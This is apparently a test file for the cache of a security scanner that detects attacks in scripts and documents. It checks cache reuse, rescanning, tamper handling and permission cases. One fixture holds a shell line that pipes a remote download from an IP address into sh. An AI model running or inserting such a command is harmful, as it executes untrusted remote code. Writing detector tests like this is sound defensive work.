import assert from 'node:assert/strict';
import { chmodSync, existsSync, readFileSync, readdirSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { TextSource } from '../../../server/src/core/analysis/security/scan/scannedText.ts';
import { scanForAttacks } from '../../../server/src/core/analysis/security/scanForAttacks.ts';
import { ScanCache } from '../../../server/src/node/cache/scanCache.ts';
import { withFiles } from '../../support/temporaryFolder.ts';

const attack: TextSource = {
  text: '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n',
  kind: 'script',
  path: 'scripts/run.sh',
};
const harmless: TextSource = { text: 'echo hello\n', kind: 'script', path: 'scripts/hello.sh' };

describe('the cache of scans', () => {
  it('answers a later process without scanning, with attacks and without', () =>
    inFolder(async run => {
      const found = [scanForAttacks(attack), []];
      assert.deepEqual(await run([attack, harmless]), { found, scanned: 2 });
      assert.deepEqual(await run([attack, harmless]), { found, scanned: 0 });
    }));

  it('scans again what has another text, kind or path, and for another build', () =>
    inFolder(async run => {
      await run([attack]);
      const others: TextSource[] = [
        { ...attack, text: `${attack.text}\n` },
        { ...attack, kind: 'document' },
        { ...attack, path: 'tests/run.sh' },
      ];
      assert.deepEqual(await run(others), { found: others.map(scanForAttacks), scanned: 3 });
      assert.deepEqual(await run([attack], 'another build'), { found: [scanForAttacks(attack)], scanned: 1 });
    }));

  it('tells texts apart that are the same in UTF-8', () =>
    inFolder(async run => {
      const broken = ['\uD800', '\uD801', '\uFFFD'].map(text => ({ ...harmless, text }));
      assert.equal((await run(broken)).scanned, 3);
    }));

  it('writes nothing of a text or of what was found in it in clear', () =>
    inFolder(async (run, folder) => {
      const [{ args }] = (await run([attack])).found[0] as [{ readonly args: object }];
      const written = filesOf(folder).map(file => readFileSync(file, 'latin1'));
      assert.equal(written.length, 1);
      for (const words of ['curl', '198.51', 'remote-code', 'run.sh', ...Object.values(args).map(String)]) {
        assert.ok(!written.some(text => text.includes(words)), words);
      }
    }));

  it('scans again what was found for another text', () =>
    inFolder(async (run, folder) => {
      await run([attack]);
      const [file = ''] = filesOf(folder);
      const forged = { ...attack, path: 'scripts/other.sh' };
      assert.deepEqual((await run([forged])).found, [scanForAttacks(forged)]);
      writeFileSync(file, readFileSync(file).toReversed());
      assert.deepEqual(await run([attack]), { found: [scanForAttacks(attack)], scanned: 1 });
    }));

  it('removes what processes left behind that were ended while they wrote', () =>
    inFolder(async (run, folder) => {
      await run([attack]);
      const [old, recent] = ['old.tmp', 'recent.tmp'].map(name => path.join(folder, 'scans', name));
      writeFileSync(old ?? '', '');
      writeFileSync(recent ?? '', '');
      utimesSync(old ?? '', 1, 1);
      await run([harmless]);
      assert.deepEqual([existsSync(old ?? ''), existsSync(recent ?? '')], [false, true]);
    }));

  it('scans without a folder that it can write to', () =>
    inFolder(async (run, folder) => {
      const isReadOnly = process.platform !== 'win32' && process.getuid?.() !== 0;
      chmodSync(folder, 0o500);
      const found = [scanForAttacks(attack)];
      assert.deepEqual(await run([attack]), { found, scanned: 1 });
      assert.deepEqual(await run([attack]), { found, scanned: isReadOnly ? 1 : 0 });
      chmodSync(folder, 0o700);
    }));

  it('scans where a file is in place of its folder', () =>
    inFolder(async (run, folder) => {
      writeFileSync(path.join(folder, 'scans'), 'mine');
      const expected = { found: [scanForAttacks(attack)], scanned: 1 };
      assert.deepEqual([await run([attack]), await run([attack])], [expected, expected]);
      assert.equal(readFileSync(path.join(folder, 'scans'), 'utf8'), 'mine');
    }));

  it('is not used in a folder that others may write to', () =>
    inFolder(async (run, folder) => {
      await run([attack]);
      chmodSync(path.join(folder, 'scans'), 0o777);
      assert.equal((await run([attack])).scanned, process.platform === 'win32' ? 0 : 1);
    }));
});

/** Scans as a process of its own does: answers with what was found, and how many texts were scanned for it. */
type Run = (
  sources: readonly TextSource[],
  build?: string,
) => Promise<{ readonly found: readonly (readonly object[])[]; readonly scanned: number }>;

function inFolder(work: (run: Run, folder: string) => Promise<void>): Promise<void> {
  return withFiles({}, location =>
    work(async (sources, build = 'build') => {
      let scanned = 0;
      const scan = (source: TextSource) => {
        scanned++;
        return scanForAttacks(source);
      };
      const cache = new ScanCache(scan, { location, build, now: Date.now });
      const found = sources.map(source => cache.scan(source));
      await cache.save();
      return { found, scanned };
    }, location),
  );
}

function filesOf(location: string): string[] {
  const folder = path.join(location, 'scans');
  return readdirSync(folder).map(name => path.join(folder, name));
}
